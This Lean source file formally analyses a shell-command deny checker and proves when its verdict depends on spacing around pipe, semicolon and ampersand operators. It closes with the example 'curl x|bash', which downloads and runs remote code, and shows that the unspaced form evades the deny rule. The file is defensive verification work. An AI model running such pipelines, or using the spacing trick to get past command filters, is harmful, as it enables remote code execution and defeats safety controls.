import OpsSentry.Tools.DenyWords

/-! The deny verdict takes a shell operator for a word of its own only where blanks stand around it. -/

namespace OpsSentry.Tools.Spacing

open Foundation.Patterns Foundation.Shlex

def operators : List Char := ['|', ';', '&']

structure Blanks where
  chars : List Char
  blank : ∀ c ∈ chars, c = ' ' ∨ c = '\t'

/-- An operator outside of quotes, with the text on either side of it and of the blanks around it. -/
structure Place where
  before : List Char
  operator : Char
  after : List Char
  operator_mem : operator ∈ operators
  outside : (run .blank before).2.pending.isSome

namespace Place

variable (p : Place)

def command (left right : Blanks) : String :=
  String.ofList (p.before ++ (left.chars ++ p.operator :: (right.chars ++ p.after)))

/-- The verdict is the same for all blanks around the operator. -/
def Unchanged : Prop := ∀ left right left' right',
  isGloballyDenied (p.command left right) = isGloballyDenied (p.command left' right')

/-- The words that end before the operator. -/
def wordsBefore : List String := (run .blank p.before).1

/-- What the word holds that the operator stands right behind. -/
def leftPart : List Char := ((run .blank p.before).2.pending).getD []

/-- The words behind the operator, the first of which goes on right behind it. -/
def wordsAfter : Option (List String) := scan (.word [] true) p.after

/-- Nothing else has the command denied, and the operator or a word beside it does as a word of its own. -/
def Exposed : Prop :=
  ¬ DangerousText p.before ∧ ¬ DangerousText p.after ∧ ∃ rightPart words, p.wordsAfter = some (rightPart :: words) ∧
    (p.leftPart ≠ [] ∨ rightPart ≠ "") ∧ ¬ DangerousWords (p.wordsBefore ++ words) ∧
    DangerousWords (p.wordsBefore ++ [String.ofList p.leftPart, String.ofList [p.operator], rightPart] ++ words)

end Place

section Text

variable (p : Place)

lemma patterns_separated : ∀ pattern ∈ GLOBAL_DENY_PATTERNS, ∃ first as last, pattern = first :: as ∧
    (first :: as).getLast? = some last ∧ (∀ a ∈ first :: as, ∀ c ∈ operators, a.accepts c = false) ∧
    ∀ c, c = ' ' ∨ c = '\t' → first.accepts c = false ∧ last.accepts c = false := by
  have hall : ∀ pattern ∈ GLOBAL_DENY_PATTERNS, pattern ≠ [] ∧
      (pattern.all fun a => operators.all fun c => a.accepts c = false) = true ∧
      ([' ', '\t'].all fun c => (pattern.head?.all fun a => a.accepts c = false) ∧
        (pattern.getLast?.all fun a => a.accepts c = false)) = true := by decide +kernel
  intro pattern hpattern
  obtain ⟨hne, hop, hends⟩ := hall pattern hpattern
  simp only [List.all_eq_true, decide_eq_true_eq] at hop hends
  cases pattern with
  | nil => exact absurd rfl hne
  | cons first as =>
    refine ⟨first, as, (first :: as).getLast hne, rfl, List.getLast?_eq_some_getLast hne, hop, fun c hc => ?_⟩
    have hends := hends c (by simpa using hc)
    rw [List.getLast?_eq_some_getLast hne] at hends
    simpa using hends

lemma dangerousText_command (left right : Blanks) :
    DangerousText (p.command left right).toList ↔ DangerousText p.before ∨ DangerousText p.after := by
  have hpart : ∀ pattern ∈ GLOBAL_DENY_PATTERNS, search pattern (p.command left right).toList =
      (search pattern p.before || search pattern p.after) := by
    intro pattern hpattern
    obtain ⟨first, as, last, rfl, hlast, hop, hblank⟩ := patterns_separated pattern hpattern
    rw [Place.command, String.toList_ofList]
    exact search_separated (fun a ha => hop a ha _ p.operator_mem) hlast (fun c hc => hblank c (left.blank c hc))
      fun c hc => hblank c (right.blank c hc)
  simp only [DangerousText, ← search_iff]
  constructor
  · rintro ⟨pattern, hmem, h⟩
    rw [hpart pattern hmem, Bool.or_eq_true] at h
    exact h.imp (fun h => ⟨pattern, hmem, h⟩) fun h => ⟨pattern, hmem, h⟩
  · rintro (⟨pattern, hmem, h⟩ | ⟨pattern, hmem, h⟩) <;> exact ⟨pattern, hmem, by rw [hpart pattern hmem, h]; simp⟩

end Text

section Words

variable {p : Place} {x y : List Char} {c : Char} {t : String} {words : List String}

lemma operator_cases (hc : c ∈ operators) : c = '|' ∨ c = ';' ∨ c = '&' := by
  simpa [operators] using hc

lemma operator_plain (hc : c ∈ operators) : isWhitespace c = false ∧ isQuote c = false ∧ c ≠ '\\' := by
  rcases operator_cases hc with rfl | rfl | rfl <;> decide

lemma blanks_white (b : Blanks) : ∀ c ∈ b.chars, isWhitespace c = true := by
  intro c hc
  rcases b.blank c hc with rfl | rfl <;> decide

/-- A longer word that holds the operator is none that a rule names. -/
lemma not_rule_word (hc : c ∈ operators) (hxy : x ≠ [] ∨ y ≠ []) (ht : t ∈ ruleWords) :
    lower (String.ofList (x ++ c :: y)) ≠ t := by
  have hsingle : ∀ t ∈ ruleWords, c ∈ t.toList → t.toList.length = 1 := by
    rcases operator_cases hc with rfl | rfl | rfl <;> decide
  have hlower : lowerChar c = c := by
    rcases operator_cases hc with rfl | rfl | rfl <;> decide
  rintro rfl
  have hmem : c ∈ (lower (String.ofList (x ++ c :: y))).toList := by
    simp [lower, hlower]
  have hlen := hsingle _ ht hmem
  simp only [lower, String.toList_ofList, List.length_map, List.length_append, List.length_cons] at hlen
  rcases hxy with h | h
  · have := List.length_pos_iff.mpr h
    omega
  · have := List.length_pos_iff.mpr h
    omega

/-- Where the scanner stands before the operator. -/
lemma exists_pending (p : Place) : ∃ quoted, (run .blank p.before).2 = .word p.leftPart quoted ∨
    ((run .blank p.before).2 = .blank ∧ p.leftPart = [] ∧ quoted = false) := by
  have h := p.outside
  rw [Place.leftPart]
  cases hs : (run .blank p.before).2 with
  | blank => exact ⟨false, Or.inr ⟨rfl, rfl, rfl⟩⟩
  | word token quoted => exact ⟨quoted, Or.inl rfl⟩
  | quote q token => simp [hs, State.pending] at h
  | escape token quoted back => simp [hs, State.pending] at h

lemma finished_of_ne {token : List Char} (h : token ≠ []) (quoted : Bool) :
    finished token quoted = [String.ofList token] := if_neg fun he => h he.1

lemma has_finished {token : List Char} {quoted : Bool} (ht : t ∈ ruleWords) :
    Has (finished token quoted) t ↔ lower (String.ofList token) = t := by
  rw [finished]
  split
  · rename_i h
    rw [h.1]
    constructor
    · rintro ⟨w, hw, -⟩
      cases hw
    · rintro rfl
      exact absurd ht (by decide)
  · simp [Has]

/-- The words around the operator, as the blanks on its left and right have them. -/
def middle (p : Place) (quoted : Bool) (rightPart : List Char) (shut : Bool) : Bool → Bool → List String
  | false, false => [String.ofList (p.leftPart ++ p.operator :: rightPart)]
  | true, false => finished p.leftPart quoted ++ [String.ofList (p.operator :: rightPart)]
  | false, true => String.ofList (p.leftPart ++ [p.operator]) :: finished rightPart shut
  | true, true => finished p.leftPart quoted ++ String.ofList [p.operator] :: finished rightPart shut

lemma scan_spaced (b : Blanks) (token : List Char) (quoted : Bool) (cs : List Char) :
    scan (.word token quoted) (b.chars ++ cs) =
      if b.chars = [] then scan (.word token quoted) cs else (scan (.word [] false) cs).map (finished token quoted ++ ·) := by
  have hb := blanks_white b
  cases h : b.chars with
  | nil => rfl
  | cons d ds =>
    rw [h, List.forall_mem_cons] at hb
    rw [List.cons_append, scan_cons, step, if_pos hb.1, scan_append, run_blanks hb.2, if_neg (List.cons_ne_nil _ _),
      ← scan_blank]
    simp

lemma scan_operator (hc : c ∈ operators) (token : List Char) (quoted : Bool) (cs : List Char) :
    scan (.word token quoted) (c :: cs) = scan (.word (token ++ [c]) quoted) cs := by
  obtain ⟨hwhite, hquote, hslash⟩ := operator_plain hc
  have hstep : step (.word token quoted) c = ([], .word (token ++ [c]) quoted) := by
    simp [step, hwhite, opened_of_ne hquote hslash]
  rw [scan_cons, hstep]
  simp

def Blanks.some (b : Blanks) : Bool := b.chars ≠ []

lemma split_command (p : Place) :
    (p.wordsAfter = none ∧ ∀ left right, Foundation.Shlex.split (p.command left right) = none) ∨
      ∃ quoted rightPart shut words, p.wordsAfter = some (String.ofList rightPart :: words) ∧
        ∀ left right, Foundation.Shlex.split (p.command left right) =
          some (p.wordsBefore ++ (middle p quoted rightPart shut left.some right.some ++ words)) := by
  obtain ⟨quoted, hstate⟩ := exists_pending p
  have hstart : ∀ cs, scan (run .blank p.before).2 cs = scan (.word p.leftPart quoted) cs := by
    intro cs
    rcases hstate with h | ⟨h, hleft, hquoted⟩
    · rw [h]
    · rw [h, hleft, hquoted, scan_blank]
  have hsplit : ∀ left right, Foundation.Shlex.split (p.command left right) =
      (scan (.word p.leftPart quoted) (left.chars ++ p.operator :: (right.chars ++ p.after))).map (p.wordsBefore ++ ·) := by
    intro left right
    rw [Foundation.Shlex.split, Place.command, String.toList_ofList, scan_append, hstart]
    rfl
  rcases scan_inside .bare p.after with hnone | ⟨rightPart, shut, words, hsome⟩
  · left
    refine ⟨hnone [] true, fun left right => ?_⟩
    have hnone : ∀ token quoted, scan (.word token quoted) p.after = none := hnone
    rw [hsplit, scan_spaced, scan_operator p.operator_mem, scan_operator p.operator_mem, scan_spaced, scan_spaced]
    simp [hnone]
  · right
    have hsome : ∀ token quoted, scan (.word token quoted) p.after =
        some (finished (token ++ rightPart) (quoted || shut) ++ words) := hsome
    refine ⟨quoted, rightPart, shut, words, ?_, fun left right => ?_⟩
    · rw [Place.wordsAfter, hsome]
      simp [finished]
    · rw [hsplit, scan_spaced, scan_operator p.operator_mem, scan_operator p.operator_mem, scan_spaced, scan_spaced]
      simp only [hsome]
      by_cases hleft : left.chars = [] <;> by_cases hright : right.chars = [] <;>
        simp [Blanks.some, hleft, hright, middle, finished_of_ne]

end Words

section Verdict

variable {p : Place} {quoted shut : Bool} {rightPart : List Char} {words : List String} {t : String}

/-- The words around the operator when each part counts as a word. -/
def parts (p : Place) (rightPart : List Char) : List String :=
  [String.ofList p.leftPart, String.ofList [p.operator], String.ofList rightPart]

lemma has_parts_of_middle (ht : t ∈ ruleWords) (left right : Bool)
    (h : Has (middle p quoted rightPart shut left right) t) : Has (parts p rightPart) t := by
  have hleft := @has_finished t p.leftPart quoted ht
  have hright := @has_finished t rightPart shut ht
  have hjoined : ∀ x y, lower (String.ofList (x ++ p.operator :: y)) = t → x = [] ∧ y = [] := by
    intro x y hxy
    by_contra hne
    exact not_rule_word p.operator_mem (not_and_or.mp hne) ht hxy
  simp only [parts, has_cons_iff]
  cases left <;> cases right
  · simp only [middle, has_cons_iff] at h
    rcases h with h | ⟨w, hw, -⟩
    · obtain ⟨hx, hy⟩ := hjoined _ _ h
      rw [hx, hy] at h
      exact Or.inr (Or.inl h)
    · cases hw
  · simp only [middle, has_cons_iff, hright] at h
    rcases h with h | h
    · obtain ⟨hx, -⟩ := hjoined _ _ h
      rw [hx] at h
      exact Or.inr (Or.inl h)
    · exact Or.inr (Or.inr (Or.inl h))
  · simp only [middle, has_append_iff, has_cons_iff, hleft] at h
    rcases h with h | h | ⟨w, hw, -⟩
    · exact Or.inl h
    · obtain ⟨-, hy⟩ := hjoined [] _ h
      rw [hy] at h
      exact Or.inr (Or.inl h)
    · cases hw
  · simp only [middle, has_append_iff, has_cons_iff, hleft, hright] at h
    rcases h with h | h | h
    · exact Or.inl h
    · exact Or.inr (Or.inl h)
    · exact Or.inr (Or.inr (Or.inl h))

lemma has_middle_of_parts (ht : t ∈ ruleWords) (h : Has (parts p rightPart) t) :
    Has (middle p quoted rightPart shut true true) t := by
  simp only [parts, has_cons_iff] at h
  simp only [middle, has_append_iff, has_cons_iff, has_finished ht]
  rcases h with h | h | h | ⟨w, hw, -⟩
  · exact Or.inl h
  · exact Or.inr (Or.inl h)
  · exact Or.inr (Or.inr h)
  · cases hw

lemma has_middle_alone (ht : t ∈ ruleWords) (hleft : p.leftPart = []) (left right : Bool)
    (h : Has (parts p []) t) : Has (middle p quoted [] shut left right) t := by
  have hempty : lower (String.ofList []) ≠ t := by
    rintro rfl
    exact absurd ht (by decide)
  have hop : lower (String.ofList [p.operator]) = t := by
    simp only [parts, has_cons_iff, hleft] at h
    rcases h with h | h | h | ⟨w, hw, -⟩
    · exact absurd h hempty
    · exact h
    · exact absurd h hempty
    · cases hw
  cases left <;> cases right <;>
    simp only [middle, hleft, List.nil_append, has_append_iff, has_cons_iff, hop, true_or, or_true]

lemma not_has_joined (ht : t ∈ ruleWords) (hbeside : p.leftPart ≠ [] ∨ rightPart ≠ []) :
    ¬ Has (middle p quoted rightPart shut false false) t := by
  rintro ⟨w, hw, h⟩
  rw [List.mem_singleton.mp hw] at h
  exact not_rule_word p.operator_mem hbeside ht h

lemma dangerous_of_sub {us us' vs : List String} (h : DangerousWords (us ++ (vs ++ words)))
    (hsub : ∀ t ∈ ruleWords, Has vs t → Has us' t) : DangerousWords (us ++ (us' ++ words)) := by
  refine h.mono fun t ht => ?_
  simp only [has_append_iff]
  rintro (h | h | h)
  · exact Or.inl h
  · exact Or.inr (Or.inl (hsub t ht h))
  · exact Or.inr (Or.inr h)

/-- What the verdict comes to, unless it hangs on the blanks. -/
lemma denied_iff (hwords : p.wordsAfter = some (String.ofList rightPart :: words))
    (hsplit : ∀ left right, Foundation.Shlex.split (p.command left right) =
      some (p.wordsBefore ++ (middle p quoted rightPart shut left.some right.some ++ words)))
    (hsafe : ¬ p.Exposed) (left right : Blanks) : isGloballyDenied (p.command left right) = true ↔
      (DangerousText p.before ∨ DangerousText p.after) ∨
        DangerousWords (p.wordsBefore ++ (parts p rightPart ++ words)) := by
  rw [isGloballyDenied_iff, dangerousText_command, hsplit]
  simp only [Option.some.injEq, forall_eq']
  refine or_congr_right' fun htext => ?_
  rw [not_or] at htext
  constructor
  · exact fun h => dangerous_of_sub h fun t ht => has_parts_of_middle ht _ _
  · intro h
    by_cases hbeside : p.leftPart ≠ [] ∨ rightPart ≠ []
    · have hothers : DangerousWords (p.wordsBefore ++ ([] ++ words)) := by
        by_contra hothers
        refine hsafe ⟨htext.1, htext.2, _, words, hwords, ?_, hothers, by simpa [parts] using h⟩
        simpa using hbeside
      exact dangerous_of_sub hothers fun t ht ⟨w, hw, _⟩ => absurd hw List.not_mem_nil
    · rw [not_or, not_not, not_not] at hbeside
      obtain ⟨hleft, rfl⟩ := hbeside
      exact dangerous_of_sub h fun t ht => has_middle_alone ht hleft _ _

end Verdict

/-- The verdict is the same for all blanks around the operator unless it hangs on the words that they
set apart. -/
theorem unchanged_iff (p : Place) : p.Unchanged ↔ ¬ p.Exposed := by
  rcases split_command p with ⟨hnone, hsplit⟩ | ⟨quoted, rightPart, shut, words, hwords, hsplit⟩
  · have hdenied : ∀ left right, isGloballyDenied (p.command left right) = true := by
      intro left right
      rw [isGloballyDenied_iff, hsplit]
      exact Or.inr nofun
    refine iff_of_true (fun left right left' right' => ?_) ?_
    · rw [hdenied, hdenied]
    · rintro ⟨-, -, rest, words, hsome, -⟩
      rw [hnone] at hsome
      cases hsome
  · constructor
    · rintro hsame ⟨hbefore, hafter, rest, words', hsome, hbeside, hothers, hparts⟩
      rw [hwords] at hsome
      cases hsome
      have hne : p.leftPart ≠ [] ∨ rightPart ≠ [] := by simpa using hbeside
      have hjoined : isGloballyDenied (p.command ⟨[], by simp⟩ ⟨[], by simp⟩) ≠ true := by
        rw [ne_eq, isGloballyDenied_iff, dangerousText_command, hsplit, not_or, not_or]
        simp only [Option.some.injEq, forall_eq']
        refine ⟨⟨hbefore, hafter⟩, fun h => hothers ?_⟩
        have hwithout : DangerousWords (p.wordsBefore ++ ([] ++ words)) :=
          dangerous_of_sub h fun t ht hhas => absurd hhas (not_has_joined ht hne)
        exact hwithout
      have hapart : isGloballyDenied (p.command ⟨[' '], by simp⟩ ⟨[' '], by simp⟩) = true := by
        rw [isGloballyDenied_iff, hsplit]
        simp only [Option.some.injEq, forall_eq']
        have hparts' : DangerousWords (p.wordsBefore ++ (parts p rightPart ++ words)) := by simpa [parts] using hparts
        refine Or.inr (dangerous_of_sub hparts' fun t ht => ?_)
        exact has_middle_of_parts ht
      exact hjoined ((hsame _ _ _ _).trans hapart)
    · intro hsafe left right left' right'
      rw [Bool.eq_iff_iff, denied_iff hwords hsplit hsafe, denied_iff hwords hsplit hsafe]

/-- `curl x|bash` passes, and `curl x | bash` does not. -/
def pipedDownload : Place := ⟨"curl x".toList, '|', "bash".toList, by decide, by decide⟩

theorem joined_pipe_passes : ¬ ∀ p : Place, p.Unchanged := by
  intro h
  have hsame := h pipedDownload ⟨[], by simp⟩ ⟨[], by simp⟩ ⟨[' '], by simp⟩ ⟨[' '], by simp⟩
  exact absurd hsame (by decide)

end OpsSentry.Tools.Spacing
